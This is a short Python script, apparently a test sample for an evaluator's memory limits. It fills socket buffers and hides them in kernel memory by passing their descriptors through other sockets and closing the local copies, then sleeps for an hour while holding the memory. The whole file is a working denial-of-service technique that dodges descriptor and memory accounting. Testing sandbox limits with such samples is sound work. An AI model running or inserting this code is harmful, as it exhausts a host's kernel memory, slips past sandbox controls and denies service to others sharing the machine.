# evaluator_error: used more memory than it may
# A socket that lies in another socket is open, full, and in no table of descriptors.
import socket
import time

carriers = []
try:
    while True:
        carrier = socket.socketpair()
        carriers.append(carrier)
        for _ in range(20):
            pair = socket.socketpair()
            pair[0].setblocking(False)
            try:
                while True:
                    pair[0].send(bytes(1 << 16))
            except BlockingIOError:
                pass
            socket.send_fds(carrier[0], [b"x"], [one.fileno() for one in pair])
            for one in pair:
                one.close()
except OSError:
    time.sleep(3600)
